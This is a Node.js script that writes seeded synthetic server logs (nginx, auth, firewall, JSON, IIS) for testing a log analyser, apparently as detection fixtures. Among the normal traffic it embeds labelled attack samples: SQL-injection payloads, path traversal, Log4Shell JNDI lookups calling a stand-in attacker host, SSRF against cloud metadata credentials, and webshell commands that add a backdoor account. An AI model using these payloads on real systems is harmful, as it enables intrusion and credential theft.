// Writes the larger files of example_logs/ (nginx_access.log, auth.log, firewall.log,
// app.jsonl, iis.log) from a fixed seed, so they can be regenerated and reviewed.
// apache_sample.log and sample.log are written by hand.
//
//   node scripts/make-example-logs.mjs
//
// Every address is from the documentation ranges (RFC 5737 / RFC 3849) or private ranges.
import { writeFileSync } from 'node:fs';

let seed = 20240312;
function random() {
  // mulberry32: small, fast, repeatable
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = (list) => list[Math.floor(random() * list.length)];
const between = (lo, hi) => lo + Math.floor(random() * (hi - lo + 1));

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n, w = 2) => String(n).padStart(w, '0');
function clf(ms) {
  const d = new Date(ms);
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
}
function syslogDate(ms) {
  const d = new Date(ms);
  return `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}
const iso = (ms) => new Date(ms).toISOString();

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1',
];
const PAGES = [
  ['/', 200, 5120],
  ['/index.html', 200, 5120],
  ['/products', 200, 14210],
  ['/products/42', 200, 8321],
  ['/products/17', 200, 8012],
  ['/about', 200, 3210],
  ['/contact', 200, 2890],
  ['/search?q=select+a+plan', 200, 9120],
  ['/search?q=union+station+hours', 200, 9021],
  ['/blog/2024/03/scripting-tips', 200, 11230],
  ['/static/app.css', 200, 40210],
  ['/static/app.js', 200, 120400],
  ['/static/logo.png', 200, 24010],
  ['/favicon.ico', 200, 1150],
  ['/cart', 200, 4021],
  ['/account', 302, 0],
  ['/docs/guide.pdf', 200, 2210400],
  ['/old-page', 404, 512],
];

// ---------------------------------------------------------------- nginx_access.log
{
  const start = Date.UTC(2024, 2, 12, 8, 0, 0); // Tuesday 12 March 2024, 08:00 UTC
  const lines = [];
  const add = (ms, ip, method, path, status, bytes, ua, ref = '-') =>
    lines.push({ ms, text: `${ip} - - [${clf(ms)}] "${method} ${path} HTTP/1.1" ${status} ${bytes} "${ref}" "${ua}"` });

  // 40 ordinary visitors spread over the working day
  for (let v = 0; v < 40; v++) {
    const ip = `198.51.100.${10 + v}`;
    const ua = pick(BROWSERS);
    let t = start + between(0, 8 * 3600) * 1000;
    const visits = between(6, 18);
    for (let i = 0; i < visits; i++) {
      const [path, status, bytes] = pick(PAGES);
      add(t, ip, 'GET', path, status, bytes + between(0, 300), ua, i === 0 ? 'https://www.example.org/' : 'https://shop.example.com/');
      t += between(5, 240) * 1000;
    }
  }
  // A monitor polling /health every 30 s all day: steady, not a flood.
  for (let t = start; t < start + 9 * 3600 * 1000; t += 30_000) add(t, '192.0.2.10', 'GET', '/health', 200, 2, 'kube-probe/1.29');
  // A search engine crawler at a polite rate.
  for (let i = 0, t = start + 3600_000; i < 60; i++, t += 55_000) {
    const [path, status, bytes] = pick(PAGES);
    add(t, '66.249.66.1', 'GET', path, status, bytes, 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)');
  }
  // gobuster walking a word list: many distinct paths, nearly all 404 (url-scan, scanner).
  const words = ['admin', 'backup', 'backup.zip', '.env', '.git/config', 'wp-admin', 'wp-login.php', 'phpmyadmin', 'config.php', 'db.sql',
    'old', 'test', 'dev', 'api/v1', 'server-status', 'console', 'manager/html', 'actuator/env', 'cgi-bin/test.cgi', 'install.php',
    'setup', 'uploads', 'private', 'tmp', 'logs', 'dump.sql', 'site.tar.gz', '.htpasswd', '.DS_Store', 'web.config', 'cpanel', 'login'];
  let t = start + 4 * 3600_000 + 120_000;
  for (const w of words) {
    add(t, '203.0.113.66', 'GET', `/${w}`, w === 'login' ? 200 : 404, w === 'login' ? 3120 : 512, 'gobuster/3.6');
    t += 700;
  }
  // sqlmap against a product id (scanner, web-attack).
  const sqli = ["/products?id=42%27%20AND%201%3D1--%20-", "/products?id=42%20UNION%20ALL%20SELECT%20NULL%2CNULL%2Cusername%2Cpassword%20FROM%20users--%20-",
    "/products?id=42%27%20AND%20SLEEP%285%29--%20-", "/products?id=42%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2Cversion%28%29%29%29"];
  t = start + 5 * 3600_000;
  for (let i = 0; i < 12; i++) {
    add(t, '203.0.113.99', 'GET', sqli[i % sqli.length], i % 3 === 0 ? 500 : 200, 1520, 'sqlmap/1.8.2#stable (https://sqlmap.org)');
    t += 2100;
  }
  // Nikto (scanner) with a traversal probe.
  add(start + 6 * 3600_000, '203.0.113.120', 'GET', '/cgi-bin/../../../../etc/passwd', 400, 166, 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)');
  add(start + 6 * 3600_000 + 900, '203.0.113.120', 'GET', '/index.php?page=php://filter/convert.base64-encode/resource=index', 200, 310, 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000120)');
  // Log4Shell in the user agent.
  add(start + 2 * 3600_000 + 7000, '203.0.113.45', 'GET', '/', 200, 5120, '${jndi:ldap://203.0.113.45:1389/Exploit}');
  // A request flood from one address: 900 requests within 6 minutes (high-volume, ml-outlier).
  t = start + 7 * 3600_000;
  for (let i = 0; i < 900; i++) {
    add(t, '198.18.0.77', 'GET', pick(['/', '/products', '/search?q=deals']), 200, 5000 + between(0, 400), 'Mozilla/5.0 (compatible; LoadBot/1.0)');
    t += 400;
  }
  // A logged-in account pulling the whole catalogue export: 60 MB to one address (data-exfiltration).
  t = start + 3 * 3600_000;
  for (let i = 0; i < 24; i++) {
    add(t, '198.51.100.200', 'GET', `/api/v1/export?page=${i + 1}`, 200, 2_600_000 + between(0, 100_000), BROWSERS[0]);
    t += 15_000;
  }
  // A broken client hammering an endpoint that errors (error-rate).
  t = start + 2 * 3600_000;
  for (let i = 0; i < 40; i++) {
    add(t, '198.51.100.250', 'POST', '/api/v1/cart/items', i % 8 === 0 ? 201 : 500, 210, 'okhttp/4.12.0');
    t += 20_000;
  }
  lines.sort((a, b) => a.ms - b.ms);
  writeFileSync('example_logs/nginx_access.log', lines.map((l) => l.text).join('\n') + '\n');
}

// ---------------------------------------------------------------- auth.log
{
  const lines = [];
  const add = (ms, prog, pid, msg) => lines.push({ ms, text: `${syslogDate(ms)} web01 ${prog}[${pid}]: ${msg}` });
  const day = Date.UTC(2024, 2, 12, 9, 0, 0); // Tuesday
  let pid = 4100;
  // Ordinary logins during the day, one with two typos first.
  for (const [h, user, ip] of [[9, 'alice', '10.20.0.15'], [10, 'bob', '10.20.0.16'], [13, 'alice', '10.20.0.15']]) {
    const ms = day + (h - 9) * 3600_000 + between(0, 1800) * 1000;
    add(ms, 'sshd', ++pid, `Accepted publickey for ${user} from ${ip} port ${between(40000, 60000)} ssh2: ED25519 SHA256:q3v8Yb1xk7s2m`);
    add(ms + 1000, 'sshd', pid, `pam_unix(sshd:session): session opened for user ${user}(uid=1001) by (uid=0)`);
  }
  {
    const ms = day + 4 * 3600_000;
    add(ms, 'sshd', ++pid, `Failed password for carol from 10.20.0.31 port 51022 ssh2`);
    add(ms + 6000, 'sshd', pid, `Failed password for carol from 10.20.0.31 port 51022 ssh2`);
    add(ms + 15000, 'sshd', pid, `Accepted password for carol from 10.20.0.31 port 51022 ssh2`);
    add(ms + 60000, 'sudo', 4990, `   carol : TTY=pts/1 ; PWD=/home/carol ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx`);
  }
  // Brute force on root, then a success: 28 failures in under 3 minutes from one address.
  let t = day + 2 * 3600_000;
  for (let i = 0; i < 28; i++) {
    add(t, 'sshd', ++pid, `Failed password for root from 203.0.113.7 port ${between(30000, 65000)} ssh2`);
    t += between(3, 8) * 1000;
  }
  add(t + 5000, 'sshd', ++pid, `Accepted password for root from 203.0.113.7 port 40222 ssh2`);
  add(t + 5500, 'sshd', pid, `pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)`);
  // Password spraying: one address, many user names, invalid users included.
  t = day + 5 * 3600_000;
  for (const user of ['admin', 'test', 'oracle', 'postgres', 'ubuntu', 'git', 'deploy', 'jenkins', 'pi', 'ftpuser']) {
    add(t, 'sshd', ++pid, `Invalid user ${user} from 198.51.100.99 port ${between(30000, 65000)}`);
    add(t + 400, 'sshd', pid, `Failed password for invalid user ${user} from 198.51.100.99 port ${between(30000, 65000)} ssh2`);
    t += between(10, 30) * 1000;
  }
  // A login at night on Saturday (off-hours), and su to root.
  const saturday = Date.UTC(2024, 2, 16, 2, 14, 9);
  add(saturday, 'sshd', ++pid, `Accepted password for deploy from 192.0.2.200 port 50111 ssh2`);
  add(saturday + 800, 'sshd', pid, `pam_unix(sshd:session): session opened for user deploy(uid=1005) by (uid=0)`);
  add(saturday + 62_000, 'su', 7001, `(to root) deploy on pts/0`);
  add(saturday + 62_100, 'su', 7001, `pam_unix(su:session): session opened for user root(uid=0) by deploy(uid=1005)`);
  lines.sort((a, b) => a.ms - b.ms);
  writeFileSync('example_logs/auth.log', lines.map((l) => l.text).join('\n') + '\n');
}

// ---------------------------------------------------------------- firewall.log
{
  const lines = [];
  const add = (ms, action, src, dst, proto, spt, dpt) =>
    lines.push({
      ms,
      text: `${syslogDate(ms)} gw01 kernel: [${(ms / 1000 - 1710000000).toFixed(6).padStart(12)}] [UFW ${action}] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=${src} DST=${dst} LEN=44 TOS=0x00 PREC=0x00 TTL=${between(40, 250)} ID=${between(1000, 65000)} PROTO=${proto} SPT=${spt} DPT=${dpt} WINDOW=1024 RES=0x00 SYN URGP=0`,
    });
  const day = Date.UTC(2024, 2, 12, 11, 0, 0);
  // Background noise: a few sources knocking on one or two ports.
  for (let i = 0; i < 30; i++) {
    const src = `198.51.100.${between(1, 254)}`;
    add(day + between(0, 6 * 3600) * 1000, 'BLOCK', src, '192.0.2.5', 'TCP', between(30000, 65000), pick([23, 445, 3389]));
  }
  // One source sweeping 60 ports in about a minute.
  const ports = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 465, 587, 993, 995, 1433, 1521, 1723, 2049, 2375, 3000, 3306,
    3389, 4444, 5000, 5432, 5601, 5900, 5985, 6379, 6443, 7001, 8000, 8008, 8080, 8081, 8088, 8443, 8888, 9000, 9090, 9200, 9300, 10000,
    11211, 15672, 27017, 50000, 50070, 61616, 2222, 2323, 4443, 6000, 7547, 8291, 9999, 49152];
  let t = day + 2 * 3600_000;
  for (const p of ports) {
    add(t, 'BLOCK', '203.0.113.200', '192.0.2.5', 'TCP', 51234, p);
    t += between(300, 1500);
  }
  lines.sort((a, b) => a.ms - b.ms);
  writeFileSync('example_logs/firewall.log', lines.map((l) => l.text).join('\n') + '\n');
}

// ---------------------------------------------------------------- app.jsonl (ECS)
{
  const lines = [];
  const add = (ms, obj) => lines.push({ ms, text: JSON.stringify({ '@timestamp': iso(ms), ...obj }) });
  const day = Date.UTC(2024, 2, 12, 8, 30, 0);
  const http = (ip, method, path, query, status, bytes, ua) => ({
    'source.ip': ip,
    'http.request.method': method,
    'url.path': path,
    ...(query ? { 'url.query': query } : {}),
    'http.response.status_code': status,
    'http.response.body.bytes': bytes,
    'user_agent.original': ua,
    'event.dataset': 'app.access',
  });
  for (let v = 0; v < 12; v++) {
    const ip = `10.30.0.${20 + v}`;
    let t = day + between(0, 6 * 3600) * 1000;
    for (let i = 0; i < between(4, 10); i++) {
      const [path, status, bytes] = pick(PAGES.slice(0, 8));
      const [p, q] = path.split('?');
      add(t, http(ip, 'GET', p, q, status, bytes, pick(BROWSERS)));
      t += between(10, 400) * 1000;
    }
    add(t, { 'source.ip': ip, 'user.name': `user${v}`, 'event.category': 'authentication', 'event.outcome': 'success', message: 'login ok' });
  }
  // Credential stuffing against the API's login: 15 failures from one address in a minute.
  let t = day + 3 * 3600_000;
  for (let i = 0; i < 15; i++) {
    add(t, { 'source.ip': '203.0.113.150', 'user.name': pick(['admin', 'jane', 'svc-backup', 'sales']), 'event.category': 'authentication', 'event.outcome': 'failure', message: 'invalid credentials' });
    t += 4000;
  }
  // Log4Shell with lookup obfuscation in a header that the app logged.
  add(day + 4 * 3600_000, http('203.0.113.151', 'GET', '/api/v1/items', 'q=${${lower:j}${lower:n}di:ldap://203.0.113.151/a}', 200, 640, 'curl/8.5.0'));
  // SSRF towards the cloud metadata service through an image-proxy parameter.
  add(day + 4 * 3600_000 + 60_000, http('203.0.113.152', 'GET', '/api/v1/preview', 'url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', 200, 880, 'python-requests/2.31.0'));
  lines.sort((a, b) => a.ms - b.ms);
  writeFileSync('example_logs/app.jsonl', lines.map((l) => l.text).join('\n') + '\n');
}

// ---------------------------------------------------------------- iis.log (W3C extended)
{
  const header = [
    '#Software: Microsoft Internet Information Services 10.0',
    '#Version: 1.0',
    '#Date: 2024-03-12 09:00:00',
    '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken',
  ];
  const lines = [];
  const add = (ms, method, stem, query, ip, ua, status, bytes, user = '-') => {
    const d = new Date(ms);
    const date = `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}`;
    const time = `${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
    lines.push({ ms, text: `${date} ${time} 192.0.2.80 ${method} ${stem} ${query || '-'} 443 ${user} ${ip} ${ua.replace(/ /g, '+')} - ${status} 0 0 ${bytes} ${between(2, 300)}` });
  };
  const day = Date.UTC(2024, 2, 12, 9, 0, 0);
  for (let v = 0; v < 10; v++) {
    const ip = `10.40.0.${30 + v}`;
    let t = day + between(0, 7 * 3600) * 1000;
    for (let i = 0; i < between(4, 10); i++) {
      add(t, 'GET', pick(['/', '/default.aspx', '/Orders/List.aspx', '/Content/site.css', '/Scripts/app.js']), '', ip, pick(BROWSERS), 200, between(900, 40000));
      t += between(10, 600) * 1000;
    }
  }
  // A webshell dropped in uploads, then used.
  add(day + 5 * 3600_000, 'GET', '/uploads/cmd.aspx', 'cmd=whoami', '203.0.113.33', BROWSERS[0], 200, 310);
  add(day + 5 * 3600_000 + 20_000, 'GET', '/uploads/cmd.aspx', 'cmd=net+user+backdoor+P%40ss1+/add', '203.0.113.33', BROWSERS[0], 200, 290);
  // SQL injection in a query string.
  add(day + 6 * 3600_000, 'GET', '/Orders/List.aspx', "id=1;WAITFOR+DELAY+'0:0:5'--", '203.0.113.34', BROWSERS[2], 500, 1200);
  // Nikto.
  add(day + 6 * 3600_000 + 5000, 'GET', '/scripts/..%c0%af../winnt/system32/cmd.exe', 'c+dir', '203.0.113.35', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000433)', 404, 1245);
  lines.sort((a, b) => a.ms - b.ms);
  writeFileSync('example_logs/iis.log', [...header, ...lines.map((l) => l.text)].join('\r\n') + '\r\n');
}
